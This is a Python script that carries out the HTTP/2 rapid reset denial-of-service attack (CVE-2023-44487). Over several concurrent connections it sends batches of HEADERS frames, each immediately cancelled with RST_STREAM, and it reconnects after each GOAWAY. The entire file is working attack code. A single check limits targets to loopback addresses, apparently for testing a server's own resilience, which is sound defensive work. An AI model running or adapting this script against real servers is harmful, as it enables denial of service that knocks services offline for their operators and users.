#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487): open streams and cancel them at once, as fast as the server reads them.

Each of --connections connections sends the preface, then batches of HEADERS (GET /plaintext, END_STREAM) each
followed at once by RST_STREAM(CANCEL); when the server answers with GOAWAY or closes, it connects again. h2c by
prior knowledge, or h2 over TLS with --tls (ALPN h2). Prints one line at the end: streams opened and reset,
connections, GOAWAYs received. Loopback targets only.

    rapid_reset.py --port 7000 --connections 4 --duration 20 [--rate 50000] [--tls]
"""
import argparse
import asyncio
import ipaddress
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(tls):
    # HPACK: :method GET (2), :scheme http (6) or https (7), :path and :authority as literals without indexing.
    path, authority = b"/plaintext", b"localhost"
    return (bytes([0x82, 0x87 if tls else 0x86]) + bytes([0x04, len(path)]) + path
            + bytes([0x01, len(authority)]) + authority)


def parse_args():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--duration", type=float, default=20.0)
    p.add_argument("--batch", type=int, default=100, help="HEADERS+RST_STREAM pairs per write")
    p.add_argument("--rate", type=float, default=0, help="streams per second over all connections; 0: as fast as possible")
    p.add_argument("--tls", action="store_true")
    args = p.parse_args()
    if not ipaddress.ip_address(args.host).is_loopback:
        p.error("loopback targets only")
    return args


class Stats:
    streams = 0
    connections = 0
    goaways = 0
    refused = 0


async def drain_until_goaway(reader, state):
    buffer = b""
    while True:
        data = await reader.read(65536)
        if not data:
            state["closed"] = True
            return
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[0:3], "big")
            if len(buffer) < 9 + length:
                break
            if buffer[3] == GOAWAY:
                state["goaway"] = True
            buffer = buffer[9 + length:]


async def attacker(args, stats, deadline, context):
    block = header_block(args.tls)
    per_connection_rate = args.rate / args.connections if args.rate else 0
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(
                args.host, args.port, ssl=context, server_hostname="localhost" if context else None)
        except (OSError, ssl.SSLError):
            stats.refused += 1
            await asyncio.sleep(0.2)
            continue
        stats.connections += 1
        state = {"goaway": False, "closed": False}
        drainer = asyncio.ensure_future(drain_until_goaway(reader, state))
        stream = 1
        try:
            writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
            started = time.monotonic()
            sent = 0
            while time.monotonic() < deadline and not state["goaway"] and not state["closed"] and stream < 2**31 - 2 * args.batch:
                out = bytearray()
                for _ in range(args.batch):
                    out += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                    out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    stream += 2
                writer.write(out)
                await writer.drain()
                sent += args.batch
                stats.streams += args.batch
                if per_connection_rate:
                    ahead = sent / per_connection_rate - (time.monotonic() - started)
                    if ahead > 0:
                        await asyncio.sleep(ahead)
                else:
                    await asyncio.sleep(0)
        except (OSError, ssl.SSLError):
            pass
        finally:
            if state["goaway"]:
                stats.goaways += 1
            drainer.cancel()
            writer.close()


async def main():
    args = parse_args()
    context = None
    if args.tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
    stats = Stats()
    deadline = time.monotonic() + args.duration
    await asyncio.gather(*(attacker(args, stats, deadline, context) for _ in range(args.connections)))
    print(f"rapid-reset: streams={stats.streams} connections={stats.connections} goaways={stats.goaways} refused={stats.refused}")


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(130)
